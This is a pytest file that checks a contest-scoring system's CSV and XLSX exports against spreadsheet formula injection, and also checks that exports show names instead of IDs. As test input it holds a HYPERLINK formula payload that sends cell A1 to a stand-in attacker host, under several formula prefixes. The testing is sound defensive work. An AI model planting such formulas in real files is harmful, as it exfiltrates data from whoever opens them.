"""The exports open safely (OWASP's CSV injection guidance): what people typed (names,
townships, criteria) is text in the CSV and the XLSX, never a formula, whatever it begins with;
numbers stay numbers, a negative one included."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from services.gateway import exports
from services.gateway.names import Names, of_contest

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def export_with(name: str) -> dict:
    """A stage of one criterion and two entries, one of them called ``name``, from a township
    and with a criterion of that name too."""
    criteria = [
        {"criterion_id": "party", "name": name, "max": "30", "weight": "1"},
        {"criterion_id": "work", "name": "讲工作", "max": "40", "weight": "1.5"},
    ]
    standing = {
        "rank": 1,
        "group_rank": 1,
        "position": 1,
        "entry_id": "e1",
        "name": name,
        "township": name,
        "group_id": "g1",
        "stage_score": "-1.5",  # a number, however unlikely: stays a number
        "advanced": True,
        "dropped_high": ["J1"],
        "dropped_low": ["J2"],
        "decided_by": None,
    }
    sheet = {
        "session_id": "s1",
        "entry_id": "e1",
        "name": name,
        "judge_id": "J1",
        "scores": {"party": "20", "work": "30.5"},
        "total": "65.75",
        "revision": 1,
    }
    return {
        "stage": {"criteria": criteria},
        "standings": [standing, dict(standing, rank=2, entry_id="e2", name="张三", township="柏山镇")],
        "sheets": [sheet],
    }


CALIBRATION = {
    "judges": [
        {
            "judge_id": "J1",
            "sheets": 5,
            "deviation_sum": "-22.7",
            "severity": "-4.54",
            "spread": "1.1056",
            "agreement": "-0.1",
            "dropped_high": 0,
            "dropped_low": 3,
            "flags": 0,
        }
    ],
    "sessions": [],
}
CERTIFICATE = {
    "fingerprint": "ABCD-EFGH",
    "standings_sha256": "0" * 64,
    "rule_sha256": "1" * 64,
    "software_version": "0.1.0",
    "checkpoints": {"scoring": {"size": 12, "root": "2" * 64}},
    "pending": [],
}


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_name_or_a_criterion_that_looks_like_a_formula_is_text_in_the_csv(prefix):
    name = prefix + PAYLOAD
    export = export_with(name)
    results = read_csv(exports.to_csv(exports.RESULT_HEADERS, exports.result_rows(export, Names()), CERTIFICATE))
    assert results[1][4:6] == ["'" + name, "'" + name]  # 姓名, 乡镇
    assert results[1][7] == "-1.5"  # a negative number is not escaped
    assert results[2][4:6] == ["张三", "柏山镇"]
    sheets = read_csv(exports.to_csv(exports.sheet_headers(export), exports.sheet_rows(export, Names())))
    assert sheets[0][4] == "'" + name + "(满分30,权重1)"
    assert sheets[0][5] == "讲工作(满分40,权重1.5)"
    assert sheets[1][2] == "'" + name
    calibration = read_csv(exports.to_csv(exports.CALIBRATION_HEADERS, exports.calibration_rows(CALIBRATION, Names())))
    assert calibration[1][3:7] == ["-22.7", "-4.54", "1.1056", "-0.1"]
    for table in (results, sheets):
        for cell in (cell for row in table for cell in row):
            assert not cell.startswith(tuple(PREFIXES)) or is_number(cell), cell


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("prefix", [*PREFIXES, "#N/A"], ids=repr)
def test_a_name_or_a_criterion_that_looks_like_a_formula_is_text_in_the_xlsx(prefix):
    name = prefix if prefix == "#N/A" else prefix + PAYLOAD
    data = exports.to_xlsx(export_with(name), Names(), CERTIFICATE, CALIBRATION)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member), member
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for table in book.worksheets for row in table.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    shown = name.replace("\r", "\n")  # XML reads a carriage return as a line feed
    results, sheets = book["成绩"], book["评分表"]
    for cell in (results["E2"], results["F2"], sheets["C2"]):
        assert (cell.value, cell.data_type) == (shown, "s")
        assert cell.quotePrefix == (prefix != "#N/A")  # Excel keeps it text even when it is edited
    assert (sheets["E1"].value, sheets["E1"].data_type) == (shown + "(满分30,权重1)", "s")
    assert results["E3"].value == "张三" and not results["E3"].quotePrefix
    # numbers stay numbers, negative ones too
    assert (results["A2"].value, results["H2"].value, results["H2"].data_type) == (1, -1.5, "n")
    assert (sheets["G2"].value, sheets["G2"].data_type) == (65.75, "n")
    judges = book["评委校准"]
    assert [judges.cell(2, column).value for column in range(4, 8)] == [-22.7, -4.54, 1.1056, -0.1]


def test_an_export_names_townships_groups_judges_sessions_and_tie_breaks_not_their_ids():
    contest = {
        "stages": [
            {
                "stage_id": "p",
                "groups": [{"group_id": "g1", "name": "北片"}],
                "criteria": [{"criterion_id": "work", "name": "讲工作"}],
            }
        ],
        "judges": [{"judge_id": "J1", "name": "孙立新"}, {"judge_id": "J2", "name": "周晓燕"}],
        "sessions": [{"session_id": "s1", "stage_id": "p", "group_id": "g1", "starts_at": "2026-12-05T09:00:00+08:00"}],
    }
    regions = [{"code": "boshan", "name": "柏山镇", "level": "township", "parent": "boai"}]
    named = of_contest(contest, regions, "p")
    export = export_with("王建国")
    export["standings"][0].update(township="boshan", decided_by="criterion:work")
    results = read_csv(exports.to_csv(exports.RESULT_HEADERS, exports.result_rows(export, named)))
    assert results[1][5:7] == ["柏山镇", "北片"]
    assert results[1][9:] == ["孙立新", "周晓燕", "评分项“讲工作”的平均分"]
    sheets = read_csv(exports.to_csv(exports.sheet_headers(export), exports.sheet_rows(export, named)))
    assert [sheets[1][0], sheets[1][3]] == ["北片 12月5日", "孙立新"]
    calibration = read_csv(exports.to_csv(exports.CALIBRATION_HEADERS, exports.calibration_rows(CALIBRATION, named)))
    assert calibration[1][:2] == ["全阶段", "孙立新"]
    assert named.decided_by("lot") == "抽签" and named.group("g-unknown") == "g-unknown"
